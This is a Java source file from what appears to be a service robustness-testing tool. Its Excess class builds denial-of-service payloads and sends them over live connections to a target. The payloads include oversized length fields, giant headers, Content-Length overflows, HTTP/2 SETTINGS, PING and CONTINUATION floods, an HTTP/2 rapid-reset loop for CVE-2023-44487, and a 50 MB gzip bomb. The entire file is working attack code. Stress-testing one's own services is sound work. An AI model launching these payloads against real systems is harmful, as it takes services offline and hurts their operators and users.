package io.locmoe.attack.traffic;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.random.RandomGenerator;
import java.util.zip.GZIPOutputStream;

/** Too much of everything: lengths, headers, frames, streams, compressed zeros. */
final class Excess implements Assault {
    private static final int BOMB_BYTES = 50 << 20;
    private static final int MANY = 2000;
    private static final int HEADER_BYTES = 64 << 10;

    private final byte[] bomb = bomb();

    @Override
    public long launch(Door door, RandomGenerator random) {
        List<byte[]> excesses = new ArrayList<>(lengths(door));
        excesses.addAll(headers());
        if (!door.speech().calls().isEmpty()) {
            excesses.addAll(frames(door.speech().calls().getFirst()));
        }
        try (Connections connections = new Connections(door)) {
            for (byte[] excess : excesses) {
                connections.add(excess);
            }
        }
        return excesses.size();
    }

    /** Beginnings that announce more than any memory holds. */
    private static List<byte[]> lengths(Door door) {
        byte[] huge = ByteBuffer.allocate(64)
                .putInt(0, Integer.MAX_VALUE)
                .putLong(8, Long.MAX_VALUE)
                .array();
        List<byte[]> lengths = new ArrayList<>();
        for (byte[] conversation : door.speech().conversations()) {
            lengths.add(Http2.joined(conversation, huge));
        }
        byte[] packet = ByteBuffer.allocate(14)
                .put("HZC".getBytes(StandardCharsets.US_ASCII))
                .put((byte) 4)
                .putChar('\0')
                .putInt(-1)
                .putInt(Integer.MAX_VALUE)
                .array();
        lengths.add(packet);
        return lengths;
    }

    private static List<byte[]> headers() {
        String value = "a".repeat(HEADER_BYTES);
        return List.of(
                ("GET /" + value + " HTTP/1.1\r\n\r\n").getBytes(StandardCharsets.US_ASCII),
                ("GET / HTTP/1.1\r\n" + ("X: " + "b".repeat(100) + "\r\n").repeat(MANY))
                        .getBytes(StandardCharsets.US_ASCII),
                ("POST /metrics HTTP/1.1\r\nContent-Length: 9223372036854775807\r\n\r\n" + value)
                        .getBytes(StandardCharsets.US_ASCII));
    }

    private List<byte[]> frames(String path) {
        byte[] value = Http2.headers("x", "a".repeat(8 << 10));
        byte[] gzip = Http2.open(1, path, "grpc-encoding", "gzip");
        byte[] open = Http2.open(1, path);
        return List.of(
                Http2.joined(Http2.preface(), Http2.frameHead(0xFFFFFF, Http2.DATA, 0, 1)),
                Http2.joined(Http2.preface(), open, length(0xFFFFFFFF)),
                Http2.joined(Http2.preface(), gzip, Http2.last(1, Http2.prefixed(bomb, 1))),
                Http2.joined(Http2.preface(), open, Http2.last(1, Http2.prefixed(bomb, 1))),
                repeated(Http2.frame(Http2.SETTINGS, 0, 0)),
                repeated(Http2.frame(Http2.PING, 0, 0, new byte[8])),
                Http2.joined(repeated(Http2.frame(Http2.DATA, 0, 1)), open),
                Http2.joined(
                        Http2.preface(),
                        Http2.frame(Http2.HEADERS, 0, 1, value),
                        times(Http2.frame(Http2.CONTINUATION, 0, 1, value), 100)),
                resets(path));
    }

    private static byte[] length(int length) {
        byte[] prefix = ByteBuffer.allocate(5).putInt(1, length).array();
        return Http2.frame(Http2.DATA, 0, 1, prefix);
    }

    private static byte[] repeated(byte[] frame) {
        return Http2.joined(Http2.preface(), times(frame, MANY));
    }

    private static byte[] times(byte[] frame, int count) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        for (int i = 0; i < count; i++) {
            all.writeBytes(frame);
        }
        return all.toByteArray();
    }

    /** Calls that are reset at once (CVE-2023-44487). */
    private static byte[] resets(String path) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        all.writeBytes(Http2.preface());
        for (int i = 0; i < MANY; i++) {
            all.writeBytes(Http2.open(2 * i + 1, path));
            all.writeBytes(Http2.frame(Http2.RESET, 0, 2 * i + 1, new byte[4]));
        }
        return all.toByteArray();
    }

    private static byte[] bomb() {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        byte[] zeros = new byte[64 << 10];
        try (GZIPOutputStream gzip = new GZIPOutputStream(bytes)) {
            for (int left = BOMB_BYTES; left > 0; left -= zeros.length) {
                gzip.write(zeros);
            }
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
        return bytes.toByteArray();
    }
}
